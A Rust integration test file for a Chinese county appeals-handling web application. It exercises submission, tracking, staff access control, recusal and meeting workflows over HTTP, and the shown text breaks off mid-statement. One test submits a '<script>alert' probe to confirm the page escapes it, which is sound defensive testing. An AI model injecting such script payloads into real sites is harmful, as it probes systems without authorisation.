//! The web layer over real HTTP: the real router on port 0 against a fresh SQLite file,
//! driven with an HTTP client. One test binary for every endpoint, to save link time.

use std::sync::Arc;

use minsheng_core::region::{Region, RegionCode};
use minsheng_core::staff::Role;
use minsheng_core::unit::{NewUnit, UnitKind};
use minsheng_store::{DataKey, Keyring, NewStaff, Store};

use minsheng_app::passwords::hash_blocking as hash_password;
use minsheng_web::AppState;
use reqwest::StatusCode;
use reqwest::redirect::Policy;

const PASSWORD: &str = "correct horse";
/// The largest attached file the test server takes (its limit of three files each).
const FILE_LIMIT: u64 = 256 * 1024;

struct App {
    base: String,
    store: Arc<dyn Store>,
    dir: std::path::PathBuf,
    client: reqwest::Client,
}

impl Drop for App {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

fn code(s: &str) -> RegionCode {
    RegionCode::parse(s).expect("valid")
}

const T1: &str = "370999001000";
const V11: &str = "370999001001";
const T2: &str = "370999002000";
const V21: &str = "370999002001";

/// A small county: two townships, two villages, the template units, four staff.
async fn app(name: &str) -> App {
    app_with(name, |state| state).await
}

/// [`app`] with its web settings changed by `tweak`.
async fn app_with(name: &str, tweak: impl FnOnce(AppState) -> AppState) -> App {
    let dir = std::env::temp_dir().join(format!("minsheng-web-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("tmp");
    let url = format!("sqlite://{}", dir.join("web.db").display());
    let keys = Keyring::new(DataKey::from_hex(&"7c".repeat(32)).expect("key"));
    let store = minsheng_store::open(&url, keys).await.expect("open");
    let county = code("370999000000");
    minsheng_store::county_with_template(
        store.as_ref(),
        &Region {
            code: county,
            name: "澄河县".into(),
        },
    )
    .await
    .expect("template");
    store
        .insert_regions(&[
            Region {
                code: code(T1),
                name: "城关街道".into(),
            },
            Region {
                code: code(T2),
                name: "柳林镇".into(),
            },
            Region {
                code: code(V11),
                name: "幸福社区".into(),
            },
            Region {
                code: code(V21),
                name: "李官屯村".into(),
            },
        ])
        .await
        .expect("regions");
    store
        .save_units(
            &[NewUnit {
                key: "t02".into(),
                name: "柳林镇人民政府".into(),
                kind: UnitKind::TownshipGovernment,
                parent_key: None,
                jurisdiction: vec![code(T2)],
                contact_phone: None,
            }],
            None,
        )
        .await
        .expect("units");
    let hash = hash_password(PASSWORD);
    for (user, unit, roles) in [
        ("admin", "qzgzb", vec![Role::Admin]),
        ("callcenter1", "qzgzb", vec![Role::CallTaker]),
        ("zjj.handler", "zjj", vec![Role::Handler]),
        ("slj.handler", "slj", vec![Role::Handler]),
        ("t02.head", "t02", vec![Role::UnitHead, Role::Leader]),
        ("dispatcher1", "qzgzb", vec![Role::Dispatcher]),
        ("leader1", "qzgzb", vec![Role::Leader]),
        ("supervisor1", "qzgzb", vec![Role::Supervisor]),
        ("zrzyj.handler", "zrzyj", vec![Role::Handler]),
        ("zrzyj.head", "zrzyj", vec![Role::UnitHead, Role::Handler]),
    ] {
        store
            .create_staff(
                &NewStaff {
                    username: user.into(),
                    display_name: format!("{user}的名字"),
                    unit_key: unit.into(),
                    roles,
                    password_hash: hash.clone(),
                    must_change_password: false,
                },
                None,
            )
            .await
            .expect("staff");
    }
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind");
    let base = format!("http://{}", listener.local_addr().expect("addr"));
    let files = minsheng_app::attachments::FileRules {
        blobs: minsheng_store::Blobs::new(dir.join("files")),
        limits: minsheng_core::attachment::Limits {
            max_bytes: FILE_LIMIT,
            max_files: 3,
        },
    };
    // Tests submit many appeals from one address: no portal rate unless a test sets one.
    let state = tweak(AppState {
        rate_limits: std::sync::Arc::new(minsheng_web::rate::RateLimits::per_minute(
            minsheng_web::DEFAULT_API_RATE,
            minsheng_web::DEFAULT_OPEN311_RATE,
            0,
        )),
        ..AppState::new(minsheng_app::App::new(store.clone()).with_files(files))
    });
    tokio::spawn(async move {
        axum::serve(
            listener,
            minsheng_web::router(state)
                .into_make_service_with_connect_info::<std::net::SocketAddr>(),
        )
        .await
    });
    let client = reqwest::Client::builder()
        .redirect(Policy::none())
        .build()
        .expect("client");
    App {
        base,
        store,
        dir,
        client,
    }
}

impl App {
    async fn get(&self, path: &str, cookie: &str) -> (StatusCode, String) {
        let r = self
            .client
            .get(format!("{}{path}", self.base))
            .header("cookie", cookie)
            .send()
            .await
            .expect("get");
        (r.status(), r.text().await.expect("body"))
    }

    /// Posts a form. Appeal forms get a fresh one-time key unless they carry one, as
    /// the pages always give them.
    async fn post(&self, path: &str, cookie: &str, form: &[(&str, &str)]) -> reqwest::Response {
        let key = format!("{:032x}", rand::random::<u128>());
        let mut fields: Vec<(&str, &str)> = form.to_vec();
        if matches!(path, "/submit" | "/staff/intake")
            && !form.iter().any(|(k, _)| *k == "submission_key")
        {
            fields.push(("submission_key", &key));
        }
        self.client
            .post(format!("{}{path}", self.base))
            .header("cookie", cookie)
            .form(&fields)
            .send()
            .await
            .expect("post")
    }

    /// Logs in and returns the cookie header value.
    async fn login(&self, user: &str) -> String {
        let r = self
            .post(
                "/staff/login",
                "",
                &[("username", user), ("password", PASSWORD)],
            )
            .await;
        assert_eq!(r.status(), StatusCode::SEE_OTHER, "login of {user}");
        let set = r.headers()["set-cookie"]
            .to_str()
            .expect("ascii")
            .to_owned();
        set.split(';').next().expect("cookie").to_owned()
    }

    /// Submits a portal appeal and returns (appeal number, tracking code).
    async fn submit(&self, extra: &[(&str, &str)]) -> (String, String) {
        let r = self.post("/submit", "", &portal_form(extra)).await;
        assert_eq!(
            r.status(),
            StatusCode::SEE_OTHER,
            "{}",
            r.text().await.unwrap_or_default()
        );
        let location = r.headers()["location"].to_str().expect("ascii").to_owned();
        let code = location
            .strip_prefix("/receipt/")
            .expect("receipt url")
            .to_owned();
        let (status, body) = self.get(&location, "").await;
        assert_eq!(status, StatusCode::OK);
        let no = between(&body, "data-test=\"appeal-no\">", "<");
        (no, code)
    }
}

impl App {
    /// The database id of the unit with `key`, as a form sends it.
    async fn unit_id(&self, key: &str) -> String {
        self.store
            .units()
            .await
            .expect("units")
            .into_iter()
            .find(|u| u.key == key)
            .unwrap_or_else(|| panic!("no unit {key}"))
            .id
            .to_string()
    }

    /// The appeal page, its version, and the actions it offers.
    async fn case_page(&self, cookie: &str, no: &str) -> (String, String, Vec<String>) {
        let (status, page) = self.get(&format!("/staff/appeals/{no}"), cookie).await;
        assert_eq!(status, StatusCode::OK);
        // No action offered means no form, and so no version on the page.
        let version = page
            .split("name=\"version\" value=\"")
            .nth(1)
            .and_then(|s| s.split('"').next())
            .unwrap_or_default()
            .to_owned();
        let actions = page
            .split("data-test=\"action-")
            .skip(1)
            .filter_map(|s| s.split('"').next())
            .filter(|a| *a != "error")
            .map(str::to_owned)
            .collect();
        (page, version, actions)
    }

    /// Takes an action as `cookie`, at the version the page showed; returns the status.
    async fn act(&self, cookie: &str, no: &str, fields: &[(&str, &str)]) -> (StatusCode, String) {
        let (_, version, _) = self.case_page(cookie, no).await;
        let mut form = vec![("version", version.as_str())];
        form.extend_from_slice(fields);
        let r = self
            .post(&format!("/staff/appeals/{no}/act"), cookie, &form)
            .await;
        (r.status(), r.text().await.expect("body"))
    }
}

/// A valid portal form with `extra` fields replacing or added to the defaults.
fn portal_form<'a>(extra: &[(&'a str, &'a str)]) -> Vec<(&'a str, &'a str)> {
    let mut form = vec![
        ("category", "gongre"),
        ("township", T1),
        ("village", V11),
        ("text", "暖气不热，屋里只有13度"),
        ("name", "张三丰"),
        ("phone", "13800138000"),
    ];
    for (k, v) in extra {
        form.retain(|(f, _)| f != k);
        form.push((k, v));
    }
    form
}

/// Form fields to change, as (name, value).
type Fields<'a> = Vec<(&'a str, &'a str)>;

fn between(body: &str, start: &str, end: &str) -> String {
    let from = body
        .find(start)
        .unwrap_or_else(|| panic!("{start} not in page"))
        + start.len();
    body[from..]
        .split(end)
        .next()
        .unwrap_or_default()
        .to_owned()
}

#[tokio::test]
async fn health_and_static() {
    let app = app("health").await;
    assert_eq!(app.get("/healthz", "").await, (StatusCode::OK, "ok".into()));
    assert_eq!(app.get("/static/app.js", "").await.0, StatusCode::OK);
    let (status, body) = app.get("/no/such/page", "").await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert!(body.contains("未找到") && body.contains("Not found"));
}

#[tokio::test]
async fn a_portal_appeal_is_tracked_publicly_without_personal_data() {
    let app = app("portal").await;
    let (no, code) = app.submit(&[]).await;
    assert!(no.starts_with("MS20") && no.len() == 13, "{no}");
    assert_eq!(code.len(), 26);
    let (status, body) = app.get(&format!("/track/{code}"), "").await;
    assert_eq!(status, StatusCode::OK);
    assert!(body.contains(&no));
    assert!(body.contains("待签收"), "a work order waits for sign-for");
    assert!(
        body.contains("县住房和城乡建设局"),
        "the public sees which unit handles it"
    );
    for secret in ["张三丰", "13800138000", "138****8000", "暖气不热"] {
        assert!(!body.contains(secret), "{secret} on the public page");
    }
    // The track form redirects; unknown and malformed codes are 404 / 400.
    let r = app
        .client
        .get(format!("{}/track?code={}", app.base, code.to_uppercase()))
        .send()
        .await
        .expect("get");
    assert_eq!(r.headers()["location"], format!("/track/{code}").as_str());
    assert_eq!(
        app.get("/track/aaaaaaaaaaaaaaaaaaaaaaaaaa", "").await.0,
        StatusCode::NOT_FOUND
    );
    assert_eq!(app.get("/track/short", "").await.0, StatusCode::NOT_FOUND);
    assert_eq!(
        app.get("/track?code=short", "").await.0,
        StatusCode::BAD_REQUEST
    );
    // The phone is not in the database file or its WAL in plain text.
    for file in ["web.db", "web.db-wal"] {
        let bytes = std::fs::read(app.dir.join(file)).unwrap_or_default();
        let needle = b"13800138000";
        assert!(
            !bytes.windows(needle.len()).any(|w| w == needle),
            "phone in {file}"
        );
    }
}

#[tokio::test]
async fn bad_input_is_refused_beside_the_field_and_nothing_is_stored() {
    let app = app("bad").await;
    let long = "字".repeat(5001);
    let cases: Vec<(Fields<'_>, &str, &str)> = vec![
        (vec![("text", "   ")], "error-text", "此项必填"),
        (vec![("text", long.as_str())], "error-text", "最多5000个字"),
        (
            vec![("phone", "12345")],
            "error-phone",
            "电话号码应为11位手机号",
        ),
        (
            vec![("village", "370999001099")],
            "error-village",
            "本县没有这个村",
        ),
        (vec![("village", V21)], "error-village", "不属于所选乡镇"),
        (
            vec![("category", "nonsense")],
            "error-category",
            "请从列表中选择",
        ),
    ];
    for (fields, marker, message) in cases {
        let mut typed = vec![("name", "李四"), ("address", "建设路9号")];
        typed.extend_from_slice(&fields);
        let r = app.post("/submit", "", &portal_form(&typed)).await;
        assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY, "{fields:?}");
        let body = r.text().await.expect("body");
        assert!(
            body.contains(&format!("data-test=\"{marker}\"")),
            "{marker} for {fields:?}"
        );
        assert!(body.contains(message), "{message} for {fields:?}");
        assert!(body.contains("value=\"李四\""), "the name typed is kept");
        assert!(
            body.contains("value=\"建设路9号\""),
            "the address typed is kept"
        );
    }
    assert_eq!(app.store.counts().await.expect("counts").appeals, 0);
}

#[tokio::test]
async fn html_is_stored_as_text_and_double_posts_land_once() {
    let app = app("html").await;
    let script = "<script>alert('x')</script>暖气不热";
    let (no, code) = app
        .submit(&[("text", script), ("submission_key", "form-key-0001")])
        .await;
    let (no2, code2) = app
        .submit(&[("text", script), ("submission_key", "form-key-0001")])
        .await;
    assert_eq!((no.clone(), code.clone()), (no2, code2));
    assert_eq!(app.store.counts().await.expect("counts").appeals, 1);
    let cookie = app.login("zjj.handler").await;
    let (status, body) = app.get(&format!("/staff/appeals/{no}"), &cookie).await;
    assert_eq!(status, StatusCode::OK);
    assert!(!body.contains("<script>alert"));
    assert!(
        body.contains("&#60;script&#62;alert") || body.contains("&lt;script&gt;alert"),
        "escaped"
    );
}

/// A joint meeting over HTTP: a dispatcher calls it, puts a case before it, records
/// the minutes and an action item for the housing bureau; the bureau sees it and
/// closes it with a result; an item past its deadline is on the supervision list; the
/// minutes print and download as a Word document; others cannot run it.
#[tokio::test]
async fn a_joint_meeting_decides_and_its_action_items_are_tracked() {
    let app = app("meetings").await;
    let (no, _) = app.submit(&[]).await;
    let dispatcher = app.login("dispatcher1").await;
    let (zjj, slj) = (app.unit_id("zjj").await, app.unit_id("slj").await);
    let create = |title: &'static str, day: &'static str| {
        vec![
            ("title", title),
            ("held_on", day),
            ("members", zjj.as_str()),
            ("members", slj.as_str()),
        ]
    };
    let r = app
        .post(
            "/staff/meetings",
            &dispatcher,
            &create("城关街道供暖问题联席会议", "2026-01-05"),
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let at = r.headers()["location"].to_str().expect("ascii").to_owned();
    let id = at
        .strip_prefix("/staff/meetings/")
        .expect("meeting url")
        .to_owned();
    let ok = StatusCode::SEE_OTHER;
    let act = |fields: Vec<(&'static str, String)>| {
        let (app, dispatcher, at) = (&app, dispatcher.clone(), at.clone());
        async move {
            let f: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (*k, v.as_str())).collect();
            let r = app.post(&at, &dispatcher, &f).await;
            (r.status(), r.text().await.expect("body"))
        }
    };
    assert_eq!(
        act(vec![
            ("action", "agenda".into()),
            ("appeal", no.clone()),
            ("note", "小区集中反映暖气不热".into())
        ])
        .await
        .0,
        ok
    );
    assert_eq!(
        act(vec![
            ("action", "minutes".into()),
            ("attendance", "住建局张局长、水利局李科长".into()),
            ("minutes", "会议研究了供暖不达标问题。".into())
        ])
        .await
        .0,
        ok
    );
    // Held in January with one working day: long overdue now.
    assert_eq!(
        act(vec![
            ("action", "action".into()),
            ("decision", "住建局督促热力公司排查管网".into()),
            ("owner", zjj.clone()),
            ("days", "1".into())
        ])
        .await
        .0,
        ok
    );
    let (status, body) = act(vec![
        ("action", "action".into()),
        ("decision", "x".into()),
        ("owner", zjj.clone()),
        ("days", "0".into()),
    ])
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        body.contains("完成时限（工作日）：应为1至60的整数"),
        "{body}"
    );
    let (_, page) = app.get(&at, &dispatcher).await;
    assert!(
        page.contains(&format!("/staff/appeals/{no}")) && page.contains("会议研究了供暖不达标问题")
    );
    assert!(page.contains("data-test=\"action-overdue\""));
    let (_, supervision) = app
        .get("/staff?view=all&list=supervision", &dispatcher)
        .await;
    assert!(
        supervision.contains("data-test=\"overdue-actions\""),
        "on the supervision list"
    );
    assert!(supervision.contains("住建局督促热力公司排查管网"));

    // The minutes print and download.
    let (status, print) = app.get(&format!("{at}/minutes"), &dispatcher).await;
    assert_eq!(status, StatusCode::OK);
    assert!(print.contains("城关街道供暖问题联席会议") && print.contains("议定事项"));
    let print = app
        .client
        .get(format!("{}{at}/minutes", app.base))
        .header("cookie", format!("{dispatcher}; lang=en"))
        .send()
        .await
        .expect("english minutes")
        .text()
        .await
        .expect("body");
    assert!(
        print.contains("Decisions and action items") && !print.contains("议定事项"),
        "{print}"
    );
    let r = app
        .client
        .get(format!("{}{at}/minutes.docx", app.base))
        .header("cookie", &dispatcher)
        .send()
        .await
        .expect("docx");
    assert_eq!(
        r.headers()["content-type"],
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    );
    let bytes = r.bytes().await.expect("bytes");
    assert!(bytes.starts_with(b"PK"), "a zip package");

    // Another unit's handler sees the meeting (a member) but cannot close the bureau's
    // item or run the meeting; a handler of a unit not in it does not see it at all.
    let water = app.login("slj.handler").await;
    assert_eq!(app.get(&at, &water).await.0, StatusCode::OK);
    let (_, page) = app.get(&at, &dispatcher).await;
    let item = between(&page, "name=\"item\" value=\"", "\"");
    let r = app
        .post(
            &at,
            &water,
            &[("action", "close"), ("item", &item), ("result", "已完成")],
        )
        .await;
    assert_eq!(r.status(), StatusCode::NOT_FOUND);
    let r = app
        .post(
            &at,
            &water,
            &[("action", "minutes"), ("attendance", "x"), ("minutes", "y")],
        )
        .await;
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    let r = app
        .post("/staff/meetings", &water, &create("越权召集", "2026-12-01"))
        .await;
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    let land = app.login("zrzyj.handler").await;
    assert_eq!(app.get(&at, &land).await.0, StatusCode::NOT_FOUND);
    // A leader of a township not in the meeting neither sees nor changes it.
    let town = app.login("t02.head").await;
    assert_eq!(app.get(&at, &town).await.0, StatusCode::NOT_FOUND);
    let r = app
        .post(
            &at,
            &town,
            &[
                ("action", "minutes"),
                ("attendance", "x"),
                ("minutes", "改写"),
            ],
        )
        .await;
    assert_eq!(r.status(), StatusCode::NOT_FOUND);
    // Dates out of range are refused.
    let r = app
        .post(
            "/staff/meetings",
            &dispatcher,
            &create("远古会议", "0001-01-01"),
        )
        .await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);

    // The bureau closes its item: a result is needed.
    let housing = app.login("zjj.handler").await;
    let r = app
        .post(
            &at,
            &housing,
            &[("action", "close"), ("item", &item), ("result", "好")],
        )
        .await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let r = app
        .post(
            &at,
            &housing,
            &[
                ("action", "close"),
                ("item", &item),
                ("result", "已排查管网并更换阀门"),
            ],
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let (_, page) = app.get(&at, &housing).await;
    assert!(
        page.contains("已排查管网并更换阀门") && !page.contains("data-test=\"action-overdue\"")
    );
    let (_, supervision) = app
        .get("/staff?view=all&list=supervision", &dispatcher)
        .await;
    assert!(
        !supervision.contains("data-test=\"overdue-actions\""),
        "closed: off the list"
    );
    // Closing twice is refused with the reason.
    let r = app
        .post(
            &at,
            &housing,
            &[("action", "close"), ("item", &item), ("result", "再次办结")],
        )
        .await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert!(r.text().await.expect("body").contains("已办结"));
    let _ = id;
}

/// Anti-retaliation over HTTP: a report accusing the housing bureau, whose category
/// it is, waits for the dispatch centre; the bureau cannot open, list or find it; the
/// dispatch centre sees who stands aside and cannot dispatch it there.
#[tokio::test]
async fn an_accused_unit_neither_gets_nor_sees_the_accusation() {
    let app = app("recusal").await;
    let (no, _) = app
        .submit(&[
            ("kind", "report"),
            (
                "text",
                "实名举报住建局王科长收受供热公司好处费，我们小区暖气一直不热",
            ),
        ])
        .await;
    let zjj = app.login("zjj.handler").await;
    assert_eq!(
        app.get(&format!("/staff/appeals/{no}"), &zjj).await.0,
        StatusCode::NOT_FOUND
    );
    let (_, inbox) = app.get("/staff?view=all", &zjj).await;
    assert!(!inbox.contains(&no));
    let (_, found) = app
        .get("/staff?view=all&q=%E5%A5%BD%E5%A4%84%E8%B4%B9", &zjj)
        .await;
    assert!(!found.contains(&no), "not found by searching either");
    let dispatcher = app.login("dispatcher1").await;
    let (page, _, _) = app.case_page(&dispatcher, &no).await;
    assert!(page.contains("data-test=\"accused\""), "{page}");
    assert!(page.contains("县住房和城乡建设局"));
    let lead = app.unit_id("zjj").await;
    let (status, body) = app
        .act(
            &dispatcher,
            &no,
            &[
                ("action", "dispatch"),
                ("lead", lead.as_str()),
                ("urgency", "normal"),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        body.contains("县住房和城乡建设局是本件的被举报对象"),
        "{body}"
    );
    assert!(
        !body.contains(&format!("name=\"lead\" value=\"{lead}\"")),
        "the accused unit is not a one-click suggestion"
    );

    // Read wrongly? The county desk lifts it with a reason (a handler may not); then
    // the bureau may be dispatched to and sees the appeal.
    let lift = |reason: &'static str| vec![("unit", lead.clone()), ("reason", reason.to_owned())];
    let post = |cookie: String, fields: Vec<(&'static str, String)>| {
        let (app, no) = (&app, no.clone());
        async move {
            let f: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (*k, v.as_str())).collect();
            app.post(&format!("/staff/appeals/{no}/recusal"), &cookie, &f)
                .await
        }
    };
    assert_eq!(
        post(zjj.clone(), lift("误判")).await.status(),
        StatusCode::FORBIDDEN
    );
    let r = post(dispatcher.clone(), lift("x")).await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert!(r.text().await.expect("body").contains("解除理由"));
    let r = post(dispatcher.clone(), lift("并非举报住建局，是请住建局协调")).await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let (status, _) = app
        .act(
            &dispatcher,
            &no,
            &[
                ("action", "dispatch"),
                ("lead", lead.as_str()),
                ("urgency", "normal"),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    assert_eq!(
        app.get(&format!("/staff/appeals/{no}"), &zjj).await.0,
        StatusCode::OK
    );
}

#[tokio::test]
async fn staff_see_their_units_appeals_and_nothing_else() {
    let app = app("scope").await;
    let (heating, _) = app.submit(&[]).await;
    let (water, _) = app
        .submit(&[
            ("category", "gongshui"),
            ("township", T2),
            ("village", V21),
            ("phone", "13900139000"),
        ])
        .await;

    // Not logged in: to the login page.
    let r = app
        .client
        .get(format!("{}/staff", app.base))
        .send()
        .await
        .expect("get");
    assert_eq!(r.headers()["location"], "/staff/login");
    // Wrong password.
    let r = app
        .post(
            "/staff/login",
            "",
            &[("username", "zjj.handler"), ("password", "nope")],
        )
        .await;
    assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
    assert!(
        r.text()
            .await
            .expect("body")
            .contains("data-test=\"login-error\"")
    );

    let zjj = app.login("zjj.handler").await;
    let (status, inbox) = app.get("/staff", &zjj).await;
    assert_eq!(status, StatusCode::OK);
    assert!(inbox.contains("县住房和城乡建设局"));
    assert!(inbox.contains(&heating) && !inbox.contains(&water));
    assert!(inbox.contains("张**") && inbox.contains("138****8000"));
    assert!(!inbox.contains("13800138000") && !inbox.contains("张三丰"));
    let (status, page) = app.get(&format!("/staff/appeals/{heating}"), &zjj).await;
    assert_eq!(status, StatusCode::OK);
    assert!(page.contains("data-test=\"appellant-phone\">138****8000<"));
    assert!(page.contains("data-test=\"timeline-item\""));
    assert_eq!(
        app.get(&format!("/staff/appeals/{water}"), &zjj).await.0,
        StatusCode::NOT_FOUND
    );

    let slj = app.login("slj.handler").await;
    let (_, inbox) = app.get("/staff", &slj).await;
    assert!(inbox.contains(&water) && !inbox.contains(&heating));
    assert_eq!(
        app.get(&format!("/staff/appeals/{heating}"), &slj).await.0,
        StatusCode::NOT_FOUND
    );
    // A handler asking for "everything" still gets only their unit.
    let (_, all) = app.get("/staff?view=all", &slj).await;
    assert!(!all.contains(&heating));

    // The township leader sees what happens in the township, whoever handles it.
    let t02 = app.login("t02.head").await;
    let (_, all) = app.get("/staff?view=all", &t02).await;
    assert!(all.contains(&water) && !all.contains(&heating));
    assert_eq!(
        app.get(&format!("/staff/appeals/{water}"), &t02).await.0,
        StatusCode::OK
    );
    assert_eq!(
        app.get(&format!("/staff/appeals/{heating}"), &t02).await.0,
        StatusCode::NOT_FOUND
    );

    // The administrator sees everything; filters narrow it.
    let admin = app.login("admin").await;
    let (_, all) = app.get("/staff?view=all", &admin).await;
    assert!(all.contains(&water) && all.contains(&heating));
    let (_, filtered) = app
        .get(&format!("/staff?view=all&township={T2}"), &admin)
        .await;
    assert!(filtered.contains(&water) && !filtered.contains(&heating));
    let (_, filtered) = app
        .get(
            "/staff?view=all&category=gongre&channel=web&status=dispatched",
            &admin,
        )
        .await;
    assert!(!filtered.contains(&water) && filtered.contains(&heating));
    let (_, filtered) = app
        .get("/staff?view=all&from=2000-01-01&to=2000-01-02", &admin)
        .await;
    assert!(filtered.contains("data-test=\"inbox-empty\""));
    let (_, found) = app
        .get(&format!("/staff?q={}", water.to_lowercase()), &admin)
        .await;
    assert!(found.contains(&water) && !found.contains(&heating));

    // Logout ends the session on the server.
    let r = app.post("/staff/logout", &admin, &[]).await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let r = app
        .client
        .get(format!("{}/staff", app.base))
        .header("cookie", &admin)
        .send()
        .await
        .expect("get");
    assert_eq!(r.headers()["location"], "/staff/login");
}

#[tokio::test]
async fn call_takers_register_appeals_and_find_callers_by_phone() {
    let app = app("intake").await;
    let handler = app.login("zjj.handler").await;
    assert_eq!(
        app.get("/staff/intake", &handler).await.0,
        StatusCode::FORBIDDEN
    );

    let ct = app.login("callcenter1").await;
    assert_eq!(app.get("/staff/intake", &ct).await.0, StatusCode::OK);
    let good = [
        ("channel", "visit"),
        ("kind", "petition"),
        ("category", "tudi"),
        ("township", T2),
        ("village", V21),
        ("text", "征地补偿款至今未发放"),
        ("name", "王五"),
        ("phone", "13700137000"),
        ("id_number", "11010519491231002X"),
        ("home_address", "柳林镇李官屯村8号"),
        ("headcount", "12"),
    ];
    let mut bad = good.to_vec();
    bad.retain(|(k, _)| *k != "id_number");
    bad.push(("id_number", "110105194912310021"));
    let r = app.post("/staff/intake", &ct, &bad).await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let body = r.text().await.expect("body");
    assert!(body.contains("data-test=\"error-id_number\"") && body.contains("校验位不正确"));
    assert!(
        body.contains("征地补偿款至今未发放"),
        "the text typed is kept"
    );
    assert_eq!(app.store.counts().await.expect("counts").appeals, 0);

    let r = app.post("/staff/intake", &ct, &good).await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let location = r.headers()["location"].to_str().expect("ascii").to_owned();
    let no = location
        .strip_prefix("/staff/appeals/")
        .and_then(|rest| rest.strip_suffix("?registered=1"))
        .expect("appeal page")
        .to_owned();
    // The call-taker sees the number and the tracking code to read aloud; the code
    // opens the public track page. Nobody else is shown it.
    let (_, mine) = app.get(&location, &ct).await;
    let code = between(&mine, "data-test=\"read-code\">", "<");
    assert_eq!(between(&mine, "data-test=\"read-no\">", "<"), no);
    assert_eq!(code.len(), 26, "{code}");
    assert_eq!(
        app.get(&format!("/track/{code}"), "").await.0,
        StatusCode::OK
    );
    let admin = app.login("admin").await;
    let (_, page) = app.get(&location, &admin).await;
    assert!(!page.contains("data-test=\"read-aloud\"") && !page.contains(&code));
    assert!(page.contains("来访") && page.contains("信访事项") && page.contains("12 人"));
    assert!(page.contains("1101**********002X") && !page.contains("11010519491231002X"));
    assert!(
        page.contains("callcenter1的名字"),
        "the timeline names who registered it"
    );

    // Caller history: by phone, as typed, through a POST.
    let r = app
        .post("/staff/callers", &ct, &[("phone", "137 0013 7000")])
        .await;
    let body = r.text().await.expect("body");
    assert!(body.contains("data-test=\"caller-history\"") && body.contains(&no));
    let r = app
        .post("/staff/callers", &ct, &[("phone", "13600136000")])
        .await;
    assert!(
        r.text()
            .await
            .expect("body")
            .contains("data-test=\"no-history\"")
    );
    let r = app.post("/staff/callers", &ct, &[("phone", "123")]).await;
    assert!(
        r.text()
            .await
            .expect("body")
            .contains("电话号码应为11位手机号")
    );

    // Looking a caller up never loses what was typed: the whole form comes back.
    let typed = [
        ("channel", "hotline"),
        ("kind", "complaint"),
        ("text", "村口的路灯坏了半个月没人修"),
        ("name", "王五"),
        ("phone", "13700137000"),
    ];
    let r = app.post("/staff/callers", &ct, &typed).await;
    let body = r.text().await.expect("body");
    assert!(
        body.contains("村口的路灯坏了半个月没人修")
            && body.contains("data-test=\"caller-history\"")
    );
    assert!(
        !body.contains("data-test=\"caller-repeat\""),
        "one appeal is no repeat"
    );
    // Two more within 30 days make a repeat caller, said as the number is typed.
    for text in ["补偿款还是没有发", "第三次反映征地补偿款"] {
        let mut again = good.to_vec();
        again.retain(|(k, _)| *k != "text");
        again.push(("text", text));
        assert_eq!(
            app.post("/staff/intake", &ct, &again).await.status(),
            StatusCode::SEE_OTHER
        );
    }
    let r = app
        .post("/staff/callers.json", &ct, &[("phone", "13700137000")])
        .await;
    assert_eq!(r.status(), StatusCode::OK);
    let found: serde_json::Value = r.json().await.expect("json");
    assert_eq!(found["recent"], 3);
    assert!(
        found["repeat"]
            .as_str()
            .is_some_and(|w| w.contains("30天内已反映3次")),
        "{found}"
    );
    assert_eq!(found["appeals"].as_array().map(Vec::len), Some(3));
    assert_eq!(found["appeals"][0]["open"], true);
    let r = app
        .post("/staff/callers.json", &ct, &[("phone", "12")])
        .await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let r = app
        .post("/staff/callers.json", &handler, &[("phone", "13700137000")])
        .await;
    assert_eq!(
        r.status(),
        StatusCode::FORBIDDEN,
        "a handler takes no calls"
    );

    // The caller asks after the first: a follow-up (催单) on it, not a new appeal.
    let before = app.store.counts().await.expect("counts").appeals;
    let r = app
        .post(
            &format!("/staff/appeals/{no}/follow-up"),
            &ct,
            &[("note", "问补偿款什么时候能发")],
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    assert_eq!(app.store.counts().await.expect("counts").appeals, before);
    let (_, page) = app.get(&format!("/staff/appeals/{no}"), &ct).await;
    assert!(page.contains("群众来电催办") && page.contains("问补偿款什么时候能发"));
    let r = app
        .post(
            &format!("/staff/appeals/{no}/follow-up"),
            &ct,
            &[("note", " ")],
        )
        .await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    // A double click, or two call-takers at once: every follow-up lands.
    let clicks: Vec<_> = (0..4)
        .map(|i| {
            let (client, url, cookie) = (
                app.client.clone(),
                format!("{}/staff/appeals/{no}/follow-up", app.base),
                ct.clone(),
            );
            tokio::spawn(async move {
                client
                    .post(url)
                    .header("cookie", cookie)
                    .form(&[("note", format!("第{i}次催问"))])
                    .send()
                    .await
                    .expect("post")
                    .status()
            })
        })
        .collect();
    for click in clicks {
        assert_eq!(click.await.expect("task"), StatusCode::SEE_OTHER);
    }
    let (_, page) = app.get(&format!("/staff/appeals/{no}"), &ct).await;
    assert_eq!(page.matches("群众来电催办").count(), 5);

    // The API gives the tracking code only to the account that registered the appeal.
    let mine = app.token("callcenter1").await;
    let (_, body) = app
